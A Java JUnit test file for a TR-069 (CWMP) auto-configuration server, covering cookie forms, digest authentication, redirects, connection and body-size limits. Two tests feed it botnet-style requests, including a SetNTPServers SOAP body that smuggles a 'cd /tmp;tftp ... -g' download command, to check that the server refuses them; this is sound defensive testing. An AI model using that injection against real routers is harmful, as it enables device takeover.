package org.cwmp4j.acs.netty;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.cwmp4j.acs.AcsBudget;
import org.cwmp4j.acs.AcsHandler;
import org.cwmp4j.acs.AcsObserver;
import org.cwmp4j.acs.AcsServer;
import org.cwmp4j.acs.AcsServerBuilder;
import org.cwmp4j.acs.InformDecision;
import org.cwmp4j.acs.InformRequest;
import org.cwmp4j.acs.ListenerOptions;
import org.cwmp4j.acs.Refusal;
import org.cwmp4j.acs.SessionInfo;
import org.cwmp4j.acs.UnknownDevicePolicy;
import org.cwmp4j.acs.WireOptions;
import org.cwmp4j.acs.auth.AuthenticationPolicy;
import org.cwmp4j.acs.device.InMemoryCredentialsStore;
import org.cwmp4j.acs.session.SessionEnd;
import org.cwmp4j.conformance.Rule;
import org.cwmp4j.http.auth.ClientAuthPolicy;
import org.cwmp4j.http.auth.ClientAuthenticator;
import org.cwmp4j.http.auth.Credentials;
import org.cwmp4j.model.rpc.GetRPCMethods;
import org.cwmp4j.model.time.SecretSource;
import org.cwmp4j.testkit.netty.LeakExtension;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Devices that are odd on the wire, and what is no device at all: their bytes written by hand. */
@ExtendWith(LeakExtension.class)
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class OddDevicesTest {
    private static final InetSocketAddress FREE = new InetSocketAddress(InetAddress.getLoopbackAddress(), 0);
    private static final String INFORM = AcsOnTheWireTest.INFORM;

    private final BlockingQueue<String> seen = new LinkedBlockingQueue<>();
    private AcsServer acs;
    private RawDevice device;
    private String cookie = "";

    @AfterEach
    void close() throws IOException {
        device.close();
        acs.close();
    }

    private static AcsServerBuilder builder() {
        return AcsServer.builder()
                .authentication(AuthenticationPolicy.none())
                .unknownDevices(UnknownDevicePolicy.admit())
                .credentials(new InMemoryCredentialsStore().put("001122-1", "secret"))
                .drain(Duration.ofMillis(1))
                .handler(AcsHandler.ofSession(session -> session.call(new GetRPCMethods())))
                .listen(ListenerOptions.http(FREE));
    }

    private void start(AcsServerBuilder builder) throws IOException {
        acs = builder.observer(new AcsObserver() {
                    @Override
                    public void refused(InetSocketAddress remote, int status, Refusal reason) {
                        seen.add(status + " " + reason);
                    }

                    @Override
                    public void sessionEnded(SessionInfo session, SessionEnd cause, Duration lasted) {
                        seen.add(cause.toString());
                    }
                })
                .build();
        acs.start().join();
        device = connect();
    }

    private RawDevice connect() throws IOException {
        return new RawDevice(acs.addresses().get(0));
    }

    private void reconnect() throws IOException {
        device.close();
        device = connect();
    }

    private String post(String headers, String body) throws IOException {
        device.send(
                "POST /acs HTTP/1.1\r\nHost: x\r\n" + headers + "Content-Length: " + body.length() + "\r\n\r\n" + body);
        String answer = device.receive();
        int set = answer.toLowerCase(java.util.Locale.ROOT).indexOf("set-cookie: cwmp=");
        if (set >= 0) {
            cookie = answer.substring(set + 17, answer.indexOf(';', set));
        }
        return answer;
    }

    private String inform() throws IOException {
        String answer = post("", INFORM);
        assertThat(answer).startsWith("HTTP/1.1 200 OK\r\n").contains("InformResponse");
        return answer;
    }

    /** In any form that devices give a cookie back, by another connection, so that only the cookie counts. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Cookie: cwmp=%s\r\n",
                "Cookie: other=1, cwmp=%s, third=\"a b\"\r\n",
                "Cookie: $Version=\"1\"; cwmp=\"%s\"; $Path=\"/\"\r\n",
                "cookie:other=1;cwmp=%s\r\n",
                "Cookie: a=b\r\nCookie: cwmp=%s\r\n"
            })
    @Rule({"H1", "W2"})
    void everyFormOfACookie(String form) throws IOException {
        start(builder());
        inform();
        reconnect();
        assertThat(post(String.format(form, cookie), "")).contains("GetRPCMethods");
    }

    /** The control: another value is nobody's. */
    @Test
    @Rule({"H1", "W2"})
    void anotherCookieIsNobodys() throws IOException {
        start(builder());
        inform();
        reconnect();
        assertThat(post("Cookie: cwmp=" + cookie + "x\r\n", "")).startsWith("HTTP/1.1 400 ");
        assertThat(post("", "")).isEmpty(); // closed
    }

    @Test
    @Rule({"H1", "W3", "A-HTTP-18"})
    void ourCookieIsOfSafeCharactersWithAPathAndWithoutAnEnd() throws IOException {
        start(builder());
        assertThat(inform()).containsPattern("(?i)set-cookie: cwmp=[A-Za-z0-9_-]{43}; Path=/\r\n");
    }

    /** Each POST by another connection, the one after the challenge too (H4). */
    @Test
    @Rule({"H4", "W7", "A-HTTP-17"})
    void aNewConnectionAlsoAfterTheChallenge() throws IOException {
        start(builder()
                .authentication(AuthenticationPolicy.digestAndBasicOverTls(
                        org.cwmp4j.http.auth.DigestServerSettings.of("cwmp"))));
        String challenge = post("Authorization: Basic MDAxMTIyLTE6c2VjcmV0\r\n", INFORM); // unasked, and worth nothing
        assertThat(challenge).startsWith("HTTP/1.1 401 ").contains("Digest ").doesNotContain("Basic ");
        assertThat(seen).isEmpty();
        reconnect();
        ClientAuthenticator user = new ClientAuthenticator(
                new Credentials("001122-1", "secret"), ClientAuthPolicy.device(false), SecretSource.secure());
        user.challenged(challenge
                .lines()
                .filter(line -> line.toLowerCase(java.util.Locale.ROOT).startsWith("www-authenticate: "))
                .map(line -> line.substring(18))
                .toList());
        assertThat(post(authorization(user), INFORM)).contains("InformResponse");
        reconnect();
        assertThat(post(authorization(user) + "Cookie: cwmp=" + cookie + "\r\n", ""))
                .contains("GetRPCMethods");
    }

    private static String authorization(ClientAuthenticator user) {
        return "Authorization: "
                + user.authorization("POST", "/acs", new byte[0]).orElseThrow() + "\r\n";
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "SOAPAction:\r\n",
                "SOAPAction: \"\"\r\n",
                "SOAPAction: \"urn:dslforum-org:cwmp-1-0#Inform\"\r\n",
                "Content-Type: text/html\r\n",
                "Content-Type: ;;;\r\n",
                "Content-Type: application/x-www-form-urlencoded\r\nSOAPAction: x\r\n"
            })
    @Rule({"B-ROB-05", "C-HTTP-04"})
    void anySoapActionAndAnyContentType(String headers) throws IOException {
        start(builder());
        assertThat(post(headers, INFORM)).contains("InformResponse");
    }

    @Test
    @Rule({"H3", "H12"})
    void noCookiesAtAllAndOneLostAnswer() throws IOException {
        start(builder());
        inform();
        assertThat(post("", "")).contains("GetRPCMethods");
        device.send("POST /acs HTTP/1.1\r\nHost: x\r\nCookie: cwmp=" + cookie + "\r\nContent-Length: 900\r\n\r\n<half");
        reconnect(); // in the middle of its message; the session waits
        assertThat(post("Cookie: cwmp=" + cookie + "\r\n", "")).contains("GetRPCMethods");
        assertThat(seen).isEmpty();
    }

    @Test
    @Rule("H6")
    void theLastAnswerMayCloseTheConnection() throws IOException {
        start(builder().handler(new AcsHandler() {}).wire(WireOptions.DEFAULT.withCloseAtEnd(true)));
        inform();
        assertThat(post("", "")).startsWith("HTTP/1.1 204 ").containsIgnoringCase("connection: close");
        assertThat(device.isClosed()).isTrue();
    }

    @Test
    @Rule("H6")
    void oneMoreEmptyExchange() throws IOException {
        start(builder().handler(new AcsHandler() {}));
        inform();
        assertThat(post("", "")).startsWith("HTTP/1.1 204 ").doesNotContainIgnoringCase("connection: close");
        assertThat(post("Cookie: cwmp=" + cookie + "\r\n", "")).startsWith("HTTP/1.1 204 ");
    }

    @Test
    @Rule({"A-HTTP-26", "A-HTTP-28"})
    void aRedirectHasNoContent() throws IOException {
        start(builder().handler(new AcsHandler() {
            @Override
            public java.util.concurrent.CompletionStage<InformDecision> onInform(InformRequest request) {
                return java.util.concurrent.CompletableFuture.completedFuture(
                        InformDecision.redirect(java.net.URI.create("http://acs2.example.com/acs")));
            }
        }));
        String answer = post("", INFORM);
        assertThat(answer)
                .startsWith("HTTP/1.1 307 Temporary Redirect\r\n")
                .containsIgnoringCase("location: http://acs2.example.com/acs\r\n")
                .containsIgnoringCase("content-length: 0\r\n")
                .endsWith("\r\n\r\n")
                .doesNotContainIgnoringCase("content-type");
    }

    /** What botnets post: refused in a few bytes, and nothing of it is looked at. */
    @ParameterizedTest
    @ValueSource(strings = {"/UD/act?1", "/tr064dev.xml", "/cgi-bin/;wget", "/", "/acs/../etc"})
    @Rule({"SEC-12", "SEC-10"})
    void wormsAreRefusedByTheHead(String target) throws IOException {
        start(builder());
        device.send("POST " + target + " HTTP/1.1\r\nHost: x\r\n"
                + "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Length: 999999999\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 404 ");
        assertThat(seen.remove()).isEqualTo("404 NOT_CWMP");
    }

    @Test
    @Rule({"SEC-12", "A-SESS-37"})
    void aWormOnOurPathGets400() throws IOException {
        start(builder());
        String worm =
                "<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                        + "<SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>"
                        + "`cd /tmp;tftp -l 3 -r 1 -g x`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>";
        assertThat(post("", worm)).startsWith("HTTP/1.1 400 ");
        assertThat(seen.remove()).isEqualTo("400 NO_SESSION");
    }

    /** The port has nothing but CWMP: no status page, no files, no management. */
    @Test
    @Rule("SEC-10")
    void thePortServesNothingElse() throws IOException {
        start(builder());
        device.send("GET /acs HTTP/1.1\r\nHost: x\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 200 ").endsWith("CWMP endpoint\n");
        for (String method : new String[] {"PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT"}) {
            reconnect();
            device.send(method + " /acs HTTP/1.1\r\nHost: x\r\n\r\n");
            assertThat(device.receive()).startsWith("HTTP/1.1 405 ");
        }
        for (String path : new String[] {"/admin", "/metrics", "/acs/", "/acs/status", "*"}) {
            reconnect();
            device.send("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n");
            assertThat(device.receive()).startsWith("HTTP/1.1 404 ");
        }
    }

    /** Full: the answer comes before the body, and the session inside goes on. */
    @Test
    @Rule("A-ROB-09")
    void aboveTheHardLimitTheBodyIsNotWaitedFor() throws IOException {
        start(builder().budget(AcsBudget.DEFAULT.withMaxSessions(1)));
        inform();
        try (RawDevice late = connect()) {
            late.send("POST /acs HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\nExpect: 100-continue\r\n\r\n");
            assertThat(late.receive())
                    .startsWith("HTTP/1.1 503 Service Unavailable\r\n")
                    .containsPattern("(?i)retry-after: (3[0-9]|4[0-9]|5[0-9]|60)\r\n");
        }
        assertThat(seen.remove()).isEqualTo("503 NO_ROOM");
        assertThat(post("", "")).contains("GetRPCMethods");
    }

    /** A connection that is one too many still brings a session's POST. */
    @Test
    @Rule("A-ROB-09")
    void aSessionGoesOnInAConnectionTooMany() throws IOException {
        start(AcsServer.builder()
                .authentication(AuthenticationPolicy.none())
                .unknownDevices(UnknownDevicePolicy.admit())
                .drain(Duration.ofMillis(1))
                .handler(AcsHandler.ofSession(session -> session.call(new GetRPCMethods())))
                .listen(ListenerOptions.http(FREE).withMaxConnections(1)));
        inform();
        // busy with a POST whose body does not come
        device.send("POST /acs HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 1\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 100 ");
        try (RawDevice second = connect()) {
            second.send("POST /acs HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
            assertThat(second.receive()).startsWith("HTTP/1.1 503 ");
        }
        assertThat(seen.remove()).isEqualTo("503 CONNECTIONS");
        RawDevice first = device;
        device = connectOnceThereIsRoom();
        assertThat(post("Cookie: cwmp=" + cookie + "\r\n", "")).contains("GetRPCMethods");
        first.close();
    }

    /** The refused connection's end is noticed a moment later; until then there are two, and a third is closed. */
    private RawDevice connectOnceThereIsRoom() throws IOException {
        while (true) {
            RawDevice candidate = connect();
            candidate.send("GET /acs HTTP/1.1\r\nHost: x\r\n\r\n");
            if (!candidate.receive().isEmpty()) {
                return candidate;
            }
            candidate.close();
        }
    }

    /** A body longer than its session allows gets 413 by its head. */
    @Test
    @Rule({"B-ROB-04", "A-ROB-09"})
    void anInformTooLongIsRefusedByItsLength() throws IOException {
        start(builder().budget(AcsBudget.DEFAULT.withBodies(100, 1000)));
        device.send("POST /acs HTTP/1.1\r\nHost: x\r\nContent-Length: 101\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 413 ");
        assertThat(seen.remove()).isEqualTo("413 TOO_LONG");
    }

    /** Nor does it slip in on a session's connection, where other messages may be longer. */
    @Test
    @Rule({"A-ROB-09", "A-ROB-11"})
    void anInformTooLongIsRefusedInASessionToo() throws IOException {
        start(builder().budget(AcsBudget.DEFAULT.withBodies(INFORM.length(), 1 << 20)));
        inform();
        assertThat(post("", INFORM + " ")).startsWith("HTTP/1.1 413 ");
        assertThat(seen).contains("413 TOO_LONG");
    }

    @Test
    @Rule("SEC-12")
    void whatIsNoHttpIsRefusedAndSeen() throws IOException {
        start(builder());
        device.send("\u0016\u0003\u0001 hello\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 400 ");
        assertThat(seen.remove()).isEqualTo("400 NOT_HTTP");
        reconnect();
        device.send("POST /acs HTTP/1.1\r\nX: " + "x".repeat(20_000) + "\r\n\r\n");
        assertThat(device.receive()).startsWith("HTTP/1.1 431 ");
        assertThat(seen.remove()).isEqualTo("431 NOT_HTTP");
    }
}
